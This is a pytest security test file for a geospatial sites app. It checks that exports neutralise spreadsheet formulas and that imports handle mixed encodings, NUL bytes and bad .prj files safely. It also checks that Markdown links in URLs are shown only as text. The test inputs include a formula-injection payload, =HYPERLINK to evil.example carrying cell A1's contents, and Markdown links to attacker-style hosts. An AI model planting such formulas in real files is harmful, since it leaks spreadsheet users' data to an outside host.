"""Hostile or odd content: spreadsheet formulas, mixed encodings, NUL bytes, a bogus .prj,
our own exports read back, links with Markdown or thousands of values."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import geopandas as gpd
import pytest
from shapely.geometry import Point

from geo import export_bytes
from geo.errors import FileImportError
from geo.export.writers import export_view, neutralise_formulas, table_csv
from geo.ingest.importer import import_sites
from geo.ingest.readers import read_upload
from geo.views.query import SiteFilter
from geo.views.viewstate import from_params
from tests.security.conftest import layer_captions, outside_code, page, page_texts, shown

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
RISKY = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def _sites_with_names(atlas, names):
    view = export_view(atlas, SiteFilter(), "sites")
    located = view[view.geometry.notna()].head(len(names)).copy()
    located["name"] = names
    return located


def test_formula_cells_are_neutralised_in_csv_exports(atlas):
    sites = _sites_with_names(atlas, RISKY)
    rows = list(
        csv.DictReader(io.StringIO(export_bytes(sites, "csv", "sites").decode(), newline=""))
    )
    assert [r["name"] for r in rows] == ["'" + n for n in RISKY]
    # Numbers are numbers, not text: a negative coordinate is not touched.
    assert neutralise_formulas(sites.assign(lat=-1.5))["lat"].tolist() == [-1.5] * len(RISKY)


def test_formula_cells_are_kept_as_written_in_geojson_and_gpkg(atlas):
    sites = _sites_with_names(atlas, RISKY)
    doc = json.loads(export_bytes(sites, "geojson", "sites"))
    assert [f["properties"]["name"] for f in doc["features"]] == RISKY
    back = gpd.read_file(io.BytesIO(export_bytes(sites, "gpkg", "sites")))
    assert list(back["name"]) == RISKY


def test_rejected_rows_download_neutralises_formulas():
    import pandas as pd

    out = table_csv(pd.DataFrame({"row": [2], "reason": ["x"], "name": [FORMULA]})).decode()
    assert "'=HYPERLINK" in out and "\n=HYPERLINK" not in out


def test_a_formula_survives_our_csv_round_trip(atlas):
    sites = _sites_with_names(atlas, RISKY[:4])
    result = import_sites(
        "rt.csv",
        export_bytes(sites, "csv", "sites"),
        vocabulary=atlas.vocabulary,
        units=atlas.units,
    )
    assert sorted(result.accepted["name"]) == sorted(RISKY[:4])


FIELDS = [
    "name",
    "minerals",
    "site_type",
    "status",
    "operator",
    "owners",
    "district",
    "province",
    "source_url",
    "notes",
]


@pytest.mark.parametrize("fmt", ["geojson", "gpkg", "csv"])
def test_export_then_import_is_lossless(atlas, fmt):
    view = export_view(atlas, SiteFilter(), "sites")
    located = view[view.geometry.notna()].set_index("name", drop=False)
    result = import_sites(
        f"rt.{fmt}",
        export_bytes(view, fmt, "sites"),
        vocabulary=atlas.vocabulary,
        units=atlas.units,
    )
    # Sites without a location cannot be imported (an imported site must be placed): each is
    # rejected with its reason; every located one comes back.
    assert len(result.accepted) == len(located)
    assert len(result.rejected) == len(view) - len(located)
    back = result.accepted.set_index("name", drop=False)
    assert sorted(back.index) == sorted(located.index)
    for field in FIELDS:
        want = located[field].map(lambda v: "" if v is None or v != v else v)
        got = back.loc[located.index, field]
        assert list(got) == list(want), field
    # Lists stay lists.
    assert all(isinstance(v, list) for v in back["minerals"])
    assert (back.loc[located.index, "lat"].to_numpy() == located["lat"].to_numpy()).all()
    assert (back.loc[located.index, "lon"].to_numpy() == located["lon"].to_numpy()).all()
    assert not back["unknown_minerals"].map(bool).any()


def test_one_cp1252_line_does_not_corrupt_the_utf8_lines(atlas):
    data = (
        b"name,lat,lon\n"
        + "Café Quetta,30.18,66.97\n".encode()
        + "Crème Karachi,24.86,67.00\n".encode("cp1252")
        + "Lāhore ü,31.52,74.36\n".encode()
    )
    result = import_sites("mixed.csv", data, vocabulary=atlas.vocabulary, units=atlas.units)
    assert list(result.accepted["name"]) == ["Café Quetta", "Crème Karachi", "Lāhore ü"]
    flags = dict(zip(result.accepted["name"], result.accepted["flags"], strict=True))
    assert any("not UTF-8" in f for f in flags["Crème Karachi"])
    assert not any("not UTF-8" in f for f in flags["Café Quetta"])
    assert any("1 line(s) were not UTF-8" in n and "lines 3" in n for n in result.notes)


def test_a_whole_cp1252_file_is_read_with_a_note(atlas):
    data = "name,lat,lon\nCrème,24.86,67.00\n".encode("cp1252")
    raw = read_upload("legacy.csv", data)
    assert raw.frame["name"].tolist() == ["Crème"] and "cp1252" in raw.notes[0]


def test_nul_bytes_anywhere_mean_binary():
    data = b"name,lat,lon\n" + b"a,30,66\n" * 2000 + b"b\x00,30,66\n"
    with pytest.raises(FileImportError, match=r"binary data \(a NUL byte on line 2002\)"):
        read_upload("late.csv", data)


def test_a_bogus_prj_is_an_unreadable_crs(tmp_path):
    frame = gpd.GeoDataFrame({"name": ["Test"]}, geometry=[Point(66.9, 30.1)], crs="EPSG:4326")
    frame.to_file(tmp_path / "sites.shp")
    (tmp_path / "sites.prj").write_text("THIS IS NOT A CRS[[[", encoding="ascii")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for part in tmp_path.iterdir():
            zf.write(part, part.name)
    with pytest.raises(FileImportError, match=r"sites\.prj holds an unreadable CRS"):
        read_upload("sites.zip", out.getvalue())


def test_progress_reports_rows_read(atlas):
    rows = "".join(f"s{i},30.1,66.9\n" for i in range(25_000))
    seen = []
    import_sites(
        "p.csv",
        ("name,lat,lon\n" + rows).encode(),
        vocabulary=atlas.vocabulary,
        units=atlas.units,
        progress=lambda done, total: seen.append((done, total)),
    )
    assert [d for d, _ in seen] == [10_000, 20_000, 25_000]
    assert seen[-1] == (25_000, 25_000)


def test_a_link_with_20000_values_gives_a_capped_summary(atlas):
    values = ",".join(f"bogus{i}" for i in range(20_000))
    _, warnings = from_params({"mineral": values}, atlas.vocabulary, atlas.units["name"])
    assert len(warnings) <= 11
    assert "lists 20,000 values for mineral; only the first 200 were read" in warnings[0]
    assert warnings[-1] == "and 191 more values were ignored"


def test_markdown_in_a_link_is_shown_as_text():
    at = page(province="**bold** [lnk](https://evil.example)", mineral="![i](http://x.example/i)")
    raw = [w.value for w in at.warning]
    # The link's text sits in code spans: no Markdown link or bare address is interpreted.
    assert raw and all("evil" not in outside_code(w) for w in raw)
    shown_text = " ".join(shown(w) for w in raw)
    assert "[lnk](https://evil.example)" in shown_text and "![i](http://x.example/i)" in shown_text


def test_a_site_name_with_markdown_is_a_plain_header(atlas):
    name = "**Bold** [x](https://evil.example)"
    data = f"name,lat,lon\n{name},30.18,66.97\n".encode()
    at = page(("md.csv", data))
    at.session_state["site"] = "md-2"  # the selected site (geo/views/viewstate.py option "site")
    at.run()
    headers = [h.value for h in at.subheader if "evil" in h.value]
    assert headers and all("evil" not in outside_code(h) for h in headers)
    assert name in [shown(h) for h in headers]
    assert name in " ".join(page_texts(at)) or name in layer_captions(at) or headers
